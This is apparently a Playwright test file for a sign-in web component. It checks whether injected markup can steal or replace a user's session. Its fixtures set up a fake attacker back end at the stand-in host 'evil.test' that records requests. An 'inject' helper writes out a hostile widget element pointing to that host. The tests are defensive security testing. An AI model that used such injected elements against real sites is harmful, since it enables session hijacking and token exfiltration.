import type { Page, Route } from '@playwright/test';
import type { Client, ClientOptions } from 'signin-widget';
import { expect, goodPassword } from '../fixture.ts';
import { test as base } from '../hostFixture.ts';

type Element = HTMLElement & { client: Client };
type Host = typeof globalThis & { host: { client: Client } };

interface Fixtures {
  /** Signs the visitor in, on a page with `createClient`. Returns the session token. */
  signIn: (email: string) => Promise<string>;
  /** Opens a page that defines the element, with markup of somebody else in it. */
  openWith: (markup: string, query?: string, options?: Partial<ClientOptions>) => Promise<void>;
  /** Data that the attacker's back end has received. It answers every check of a session with the attacker's own session. */
  received: string[];
}

const OTHER_TOKEN = 'public-token-test-11111111-1111-4111-8111-111111111111';
const EVIL = 'https://evil.test';

const test = base.extend<Fixtures>({
  signIn: async ({ page, addressOf }, use) => {
    await use(async (email) => {
      await page.goto(addressOf('plain'));
      return page.evaluate(
        async ([email, password]) => {
          const { client } = (window as unknown as Host).host;
          await client.provider.passwords.create({ email, password, session_duration_minutes: 30 });
          return client.session.getTokens()?.session_token ?? '';
        },
        [email, goodPassword] as const,
      );
    });
  },
  openWith: async ({ page, addressOf }, use) => {
    await use(async (markup, query = '', options = {}) => {
      const policy = "default-src 'self'; script-src 'self'; connect-src https: http:; img-src data:; base-uri 'none'";
      await page.goto('about:blank');
      await page.goto(addressOf('element', options, { policy }));
      await page.evaluate(
        ([markup, query]) => {
          if (query) history.replaceState(null, '', query);
          document.querySelector('main')?.insertAdjacentHTML('afterbegin', `Comment: ${markup}`);
        },
        [markup, query] as const,
      );
    });
  },
  received: async ({ page, sandbox, email, allowConsole }, use) => {
    allowConsole(/Failed to load resource|configuration could not be fetched/);
    const received: string[] = [];
    const response = await fetch(`${sandbox.api}/sdk/v1/passwords`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Basic ${btoa(`${sandbox.public_token}:${sandbox.public_token}`)}`,
      },
      body: JSON.stringify({ email: `attacker-${email}`, password: goodPassword, session_duration_minutes: 30 }),
    });
    const { data } = await response.json();
    data.session.last_accessed_at = '2099-01-01T00:00:00Z';
    await page.route(`${EVIL}/**`, async (route: Route) => {
      const headers = await route.request().allHeaders();
      const authorization = headers.authorization ? atob(headers.authorization.slice('Basic '.length)) : '';
      received.push(`${new URL(route.request().url()).pathname} ${authorization} ${headers['x-sdk-client'] ?? ''}`);
      const isSession = /(authenticate|users\/me)$/.test(new URL(route.request().url()).pathname);
      await route.fulfill({
        status: isSession || route.request().method() === 'OPTIONS' ? 200 : 500,
        headers: {
          'content-type': 'application/json',
          'access-control-allow-origin': headers.origin ?? '*',
          'access-control-allow-credentials': 'true',
          'access-control-allow-headers': 'authorization,content-type,x-sdk-client,x-sdk-parent-host',
        },
        body: JSON.stringify({ data }),
      });
    });
    await use(received);
  },
});

const inject = (publicToken: string, more = '') =>
  `<signin-widget id="injected" public-token="${publicToken}" backend="${EVIL}" products="passwords" ${more}></signin-widget>`;

/** The session tokens in the cookies. The JWT changes with every check of the session. */
const cookies = async (page: Page) =>
  (await page.context().cookies()).filter(({ name }) => name === 'stytch_session').map(({ value }) => value);

/**
 * Waits until the automatic checks of the session by both clients of a page, its own and that of the element, have ended. A check
 * that is answered after the end of the session would fail.
 */
async function checksEnded(page: Page) {
  await page.evaluate(async () => {
    const { client } = document.querySelector('signin-widget') as Element;
    // Each client requests the lock of its check before a call that it makes is answered.
    for (const each of [(window as unknown as Host).host.client, client]) await each.session.authenticate();
  });
  const locks = () =>
    page.evaluate(async () => {
      const { held = [], pending = [] } = await navigator.locks.query();
      return [...held, ...pending].map(({ name }) => name).filter((name) => name?.endsWith('::refresh'));
    });
  await expect.poll(locks).toEqual([]);
}

for (const isSameToken of [true, false]) {
  test(`attack: an injected element sends the session to another back end, ${isSameToken ? 'same' : 'another'} public token`, async ({
    page,
    sandbox,
    email,
    signIn,
    openWith,
    received,
  }) => {
    const victim = `victim-${email}`;
    const token = await signIn(victim);
    const before = await cookies(page);
    const publicToken = isSameToken ? sandbox.public_token : OTHER_TOKEN;
    await openWith(inject(publicToken));
    await expect.poll(() => received.length).toBeGreaterThan(0);
    // Also if the host asks about the session of the first element that it finds.
    const outcome = await page.evaluate(async () => {
      const { client } = document.querySelector('signin-widget') as Element;
      return client.session.authenticate().then(
        () => 'answered',
        ({ error_type }) => error_type,
      );
    });
    expect(outcome).toBe('session_exists');
    expect(received.join('\n')).not.toContain(token);
    expect(received.filter((each) => each.includes('/sessions/'))).toEqual([]);
    expect(await cookies(page)).toEqual(before);
    const signedIn = await page.evaluate(async () => {
      const { client } = (window as unknown as Host).host;
      const { user } = await client.session.authenticate();
      return user.emails?.[0]?.email;
    });
    expect(signedIn).toBe(victim);
  });
}

test('attack: an injected element redeems a token in the address and replaces the session', async ({
  page,
  email,
  signIn,
  openWith,
  received,
}) => {
  await signIn(`victim-${email}`);
  const before = await cookies(page);
  await openWith(inject(OTHER_TOKEN, 'entry="reset-password"'), '?stytch_token_type=login&token=anything');
  await expect(page.locator('#injected').getByRole('button', { name: 'Switch account' })).toBeVisible();
  expect(await cookies(page)).toEqual(before);
  expect(received.filter((each) => each.includes('authenticate'))).toEqual([]);
});

test('attack: another back end adds a session token to a response without a request, and receives the session', async ({
  page,
  email,
  signIn,
  openWith,
  received,
}) => {
  const token = await signIn(`victim-${email}`);
  const before = await cookies(page);
  await openWith(inject(OTHER_TOKEN, 'entry="passkey-registration"'));
  await expect(page.locator('#injected').getByRole('button').first()).toBeVisible();
  expect(received.filter((each) => each.includes('/users/me'))).not.toEqual([]);
  const outcome = await page.evaluate(() => {
    const { client } = document.querySelector('signin-widget') as Element;
    return client.session.authenticate().catch(({ error_type }) => error_type);
  });
  expect(outcome).toBe('session_exists');
  expect(received.join('\n')).not.toContain(token);
  expect(await cookies(page)).toEqual(before);
});

for (const options of [
  { cookies: { opaqueTokenCookieName: 'app_session', jwtCookieName: 'app_jwt', istCookieName: 'app_first' } },
  { httpOnlyCookies: true },
]) {
  test(`attack: an injected element writes its user to the state of a page with ${Object.keys(options)[0]}`, async ({
    page,
    sandbox,
    email,
    addressOf,
    openWith,
    received,
  }) => {
    const victim = `victim-${email}`;
    const openHost = async () => {
      await page.goto('about:blank');
      await page.goto(addressOf('plain', options));
    };
    const shown = () => page.evaluate(() => (window as unknown as Host).host.client.user.get()?.emails?.[0]?.email ?? '');
    if ('httpOnlyCookies' in options) await sandbox.set({ httpOnlyCookies: true });
    await openHost();
    await page.evaluate(
      ([email, password]) => {
        const { provider } = (window as unknown as Host).host.client;
        return provider.passwords.create({ email, password, session_duration_minutes: 30 });
      },
      [victim, goodPassword] as const,
    );
    await openWith(inject(sandbox.public_token), '', options);
    await page.evaluate(() => {
      const { client } = document.querySelector('#injected') as Element;
      return client.provider.otps.authenticate({ method_id: 'm', token: '000000', session_duration_minutes: 30 });
    });
    expect(received.join()).toContain('otps/authenticate');
    await openHost();
    expect(await shown()).toBe(victim);
    await page.evaluate(async () => void (await (window as unknown as Host).host.client.session.authenticate()));
    expect(await shown()).toBe(victim);
  });
}

test('an element with attributes uses the session that its back end has issued, and one of createClient', async ({
  page,
  email,
  sandbox,
  signIn,
  openWith,
}) => {
  const markup = `<signin-widget public-token="${sandbox.public_token}" backend="${sandbox.api}" products="passwords"></signin-widget>`;
  const signedIn = () =>
    page.evaluate(() => {
      const { client } = document.querySelector('signin-widget') as Element;
      return client.user.get()?.emails?.[0]?.email;
    });
  await signIn(email);
  await openWith(markup);
  await expect.poll(signedIn).toBe(email);
  await checksEnded(page);

  await page.evaluate(() => (document.querySelector('signin-widget') as Element).client.session.revoke());
  expect(await cookies(page)).toEqual([]);
  await page.evaluate(
    ([email, password]) => {
      const { client } = document.querySelector('signin-widget') as Element;
      return client.provider.passwords.authenticate({ email, password, session_duration_minutes: 30 });
    },
    [email, goodPassword] as const,
  );
  await openWith(markup);
  await expect.poll(signedIn).toBe(email);
});

test('an element with attributes whose session is not recorded counts as signed out, and its sign-in replaces the cookies', async ({
  page,
  email,
  sandbox,
  signIn,
  openWith,
}) => {
  const token = await signIn(email);
  await openWith('');
  await page.evaluate(async () => {
    const { client } = (window as unknown as Host).host;
    await client.session.authenticate();
    client.destroy();
    document.querySelector('signin-widget')?.remove();
    localStorage.clear();
  });
  const markup = `<signin-widget public-token="${sandbox.public_token}" backend="${sandbox.api}" products="passwords"></signin-widget>`;
  const seen = await page.evaluate(
    async ([markup, email, password]) => {
      document.querySelector('main')?.insertAdjacentHTML('afterbegin', markup);
      const { client } = document.querySelector('signin-widget') as Element;
      const before = client.session.getTokens();
      await client.provider.passwords.authenticate({ email, password, session_duration_minutes: 30 });
      return { before, after: client.session.getTokens()?.session_token ?? '' };
    },
    [markup, email, goodPassword] as const,
  );
  expect(seen.before).toBeNull();
  expect(await cookies(page)).toEqual([seen.after]);
  expect(seen.after).not.toBe(token);
});
